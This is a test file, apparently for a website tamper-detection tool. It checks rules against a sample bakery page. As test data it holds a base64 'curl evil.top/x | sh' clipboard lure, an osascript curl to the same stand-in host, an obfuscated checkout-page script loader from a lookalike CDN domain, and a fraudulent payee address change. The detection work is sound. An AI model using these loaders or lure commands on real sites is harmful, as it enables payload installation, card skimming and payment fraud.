/**
 * The rules of round 27 (fresh33 and fresh34 became tuning data after their
 * first looks), on the hand-written bakery page: each with the change it
 * catches and the honest change beside it that it leaves alone.
 */
import { describe, expect, it } from "@effect/vitest"
import { fold, readScript } from "../../src/internal/script.js"
import { baselineOf, breaches, checks, page, samples, verdictOf } from "../support/pages.js"

describe("round 27: strings a script puts together from pieces", () => {
  it("folds literals added together, arrays of literals joined, character codes and base64 into one literal each", () => {
    expect(fold(`s.src="https://"+["cdn-jquery","min","com"].join(".")+"/js/lib.js"`)).toBe(`s.src="https://cdn-jquery.min.com/js/lib.js"`)
    expect(fold(`var u = 'ht' + "tps:" + '//shop' + ".example"`)).toBe(`var u = "https://shop.example"`)
    expect(fold(`alert(String.fromCharCode(104, 105))`)).toBe(`alert("hi")`)
    expect(fold(`x(atob("aGVsbG8gd29ybGQ="))`)).toBe(`x("hello world")`)
    // (a piece computed as the script runs leaves the sum as written)
    expect(fold(`var a = "https://" + host + ".example/x"`)).toBe(`var a = "https://" + host + ".example/x"`)
  })

  it("reads the address a loader assembles, and the words a dialog spells from character codes", () => {
    expect(readScript(`var s=document.createElement("script");s.src="https://"+["stat","counter-cdn","net"].join(".")+"/c.js";document.head.appendChild(s)`).urls)
      .toContain("https://stat.counter-cdn.net/c.js")
    const message = "Hacked by nobody, patch your server"
    const codes = [...message].map((c) => c.charCodeAt(0)).join(",")
    expect(readScript(`for(var i=0;i<3;i++)alert(String.fromCharCode(${codes}))`).writes).toEqual([message])
  })

  it("a new inline loader whose host is assembled from pieces alerts on the host; the site's own assembled address does not", () => {
    const loader = (host: string) =>
      page({ seed: 4, head: `<script>(function(){if(!/checkout|basket/.test(location.href))return;var s=document.createElement("script");s.src="https://"+[${host.split(".").map((p) => JSON.stringify(p)).join(",")}].join(".")+"/js/v.js";document.head.appendChild(s)})()</script>` })
    expect(breaches(verdictOf(loader("jquery-cdn-min.top")))).toContain("destinations/inline_script_new_domain")
    expect(breaches(verdictOf(loader("www.harbourbakery.co.uk")))).not.toContain("destinations/inline_script_new_domain")
  })

  it("the old split of a script tag written by document.write stays a script tag, not words shown", () => {
    const writes = readScript(`document.write("<scr"+"ipt src='/static/legacy.js'></scr"+"ipt>")`).writes.join(" ")
    expect(writes).not.toContain("legacy")
    expect(writes).not.toContain("script")
  })

  it("a command decoded from base64 and piped into a shell is a paste-this lure's command, as PowerShell's are", () => {
    const lure = (cmd: string) => readScript(`document.getElementById("v1").onclick=function(){navigator.clipboard.writeText(${JSON.stringify(cmd)})}`).clipboard
    expect(lure(`echo "Y3VybCBldmlsLnRvcC94IHwgc2g=" | base64 -d | zsh # verification id 4821`)).toBe(true)
    expect(lure(`osascript -e 'do shell script "curl -s evil.top/p"'`)).toBe(true)
    // (copying a coupon code or an address is no command)
    expect(lure("SUMMER-25")).toBe(false)
  })
})

describe("round 27: the site's own pictures, served elsewhere", () => {
  const gallery = (src: (path: string) => string) => (seed: number) =>
    page({ seed, body: `<section class="gallery"><img id="front" src="${src("/media/shop-front.jpg")}" alt="The shop front"><img id="ovens" src="${src("/media/ovens.jpg")}" alt="The ovens at four"></section>` })
  const base = baselineOf(samples(gallery((p) => p)))

  it("through an image optimizer that names the picture's own address, they are the same pictures", () => {
    const optimole = verdictOf(gallery((p) => `https://x7k2mq9p4tzz.i.optimole.com/w:800/h:auto/q:mauto/https://www.harbourbakery.co.uk${p}`)(4), base)
    expect(checks(optimole).filter((c) => c.startsWith("destinations/image"))).toEqual([])
    const shortpixel = verdictOf(gallery((p) => `https://cdn.shortpixel.ai/spai/q_lossy+ret_img+to_webp/www.harbourbakery.co.uk${p}`)(4), base)
    expect(checks(shortpixel).filter((c) => c.startsWith("destinations/image"))).toEqual([])
  })

  it("in the site's own pull zone, named after it on a CDN anyone can use, they are reported; in someone else's, they alert", () => {
    // (the pictures renamed on the way, so they are judged as elements sent elsewhere, not as files moved)
    const moved = (host: string) => verdictOf(gallery((p) => `${host}/pics${p.replace("media/", "")}`)(4), base)
    expect(breaches(moved("https://harbourbakery-img.b-cdn.net"))).toEqual([])
    expect(breaches(moved("https://pixhost-eu.b-cdn.net"))).toContain("destinations/image_retargeted")
  })
})

describe("round 27: payments sent by post", () => {
  const giving = (line: string) => (seed: number) => page({ seed, body: `<section class="giving"><h2>Support the bakery school</h2><p>${line}</p></section>` })
  const base = baselineOf(samples(giving("Donations by card are welcome at the counter.")))

  it("a new post box for payments sent by post alerts, as one for cheques does", () => {
    const box = verdictOf(giving("Please send signed forms and payments by post to our new mailing address: Daniel Hughes, PO Box 4417, Luton LU1 3XY.")(4), base)
    expect(breaches(box)).toContain("identifiers/payee_changed")
  })

  it("payment words without a post box or payee change nothing", () => {
    const honest = verdictOf(giving("Payments by post are no longer accepted; please pay at the counter or by card.")(4), base)
    expect(checks(honest)).not.toContain("identifiers/payee_changed")
  })
})

